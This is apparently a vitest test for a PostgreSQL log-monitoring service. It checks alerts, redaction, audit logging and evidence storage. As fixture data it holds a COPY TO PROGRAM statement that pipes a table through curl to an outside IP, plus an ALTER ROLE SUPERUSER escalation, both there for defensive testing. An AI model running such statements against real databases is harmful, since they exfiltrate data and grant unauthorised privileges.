import { appendFileSync, globSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it, vi } from 'vitest';
import { servedFolder, until } from './serving.ts';

// The case starts the whole program; on a busy machine that takes a while.
vi.setConfig({ testTimeout: 300_000 });

const start = Date.now() - 120_000;
const LITERAL = 'curl --upload-file invented.sql 203.0.113.9';
const SECRET = 'invented-passphrase';

/** A statement as csvlog has it. */
function statement(seconds: number, sql: string): string {
  const time = `${new Date(start + 1000 * seconds).toISOString().slice(0, 23).replace('T', ' ')} UTC`;
  const message = `statement: ${sql}`.replaceAll('"', '""');
  return `${time},"postgres","orders",4711,"203.0.113.7:40001",6720f000.1267,${seconds + 3},"COPY",${time},3/7,0,LOG,00000,"${message}",,,,,,,,,"psql","client backend",,0\n`;
}

it('shows literals to those who may see them, keeps no secret, and only sealed what is no secret', async () => {
  const folder = servedFolder({
    resources: [{ id: 'orders', kind: 'postgresql', logs: [{ path: 'live.csv', format: 'csvlog' }] }],
  });
  writeFileSync(join(folder.path, 'live.csv'), '');
  const serving = folder.start();
  await until('it is at work', () => serving.text().includes('watching 1 resources'));
  appendFileSync(
    join(folder.path, 'live.csv'),
    statement(0, `COPY orders TO PROGRAM '${LITERAL}'`) + statement(1, `ALTER ROLE app SUPERUSER PASSWORD '${SECRET}'`),
  );
  const alertOf = (variant: string) =>
    folder.alerts().find(({ alert }) => alert.properties.extendedProperties.Variant === variant)?.alert.name;
  await until('both are told', () => alertOf('program') !== undefined && alertOf('privilege') !== undefined);
  const reveal = async (variant: string, body = { reason: 'ticket 4711' }) =>
    folder.ask('POST', `/api/v1/alerts/${alertOf(variant)}/reveal`, body);

  const program = await reveal('program');
  const privilege = await reveal('privilege');
  expect(program).toMatchObject({ status: 200, body: { items: [{ isRevealed: true }] } });
  expect(JSON.stringify(program.body)).toContain(LITERAL);
  expect(privilege).toMatchObject({ status: 200, body: { items: [{ isRevealed: false }] } });
  expect(JSON.stringify(privilege.body)).toContain("PASSWORD '?'");
  expect((await reveal('program', { reason: ' ' })).status).toBe(400);
  const { body } = await folder.ask('GET', '/api/v1/audit-log?action=alerts.reveal');
  expect(body).toMatchObject({ items: [{ detail: { lines: 0 } }, { detail: { reason: 'ticket 4711', lines: 1 } }] });

  expect(await serving.end('SIGTERM')).toBe(0);
  const kept = globSync('data/**/*', { cwd: folder.path })
    .map((path) => join(folder.path, path))
    .filter((path) => statSync(path).isFile());
  const holding = (text: string) => kept.filter((path) => readFileSync(path).includes(text));
  expect(kept.some((path) => path.endsWith('vedette.db'))).toBe(true);
  expect(holding('COPY orders TO PROGRAM').length).toBeGreaterThan(0);
  expect([holding(LITERAL), holding(SECRET)]).toEqual([[], []]);
  expect(statSync(join(folder.path, 'data/evidence.key')).mode & 0o777).toBe(0o600);
});
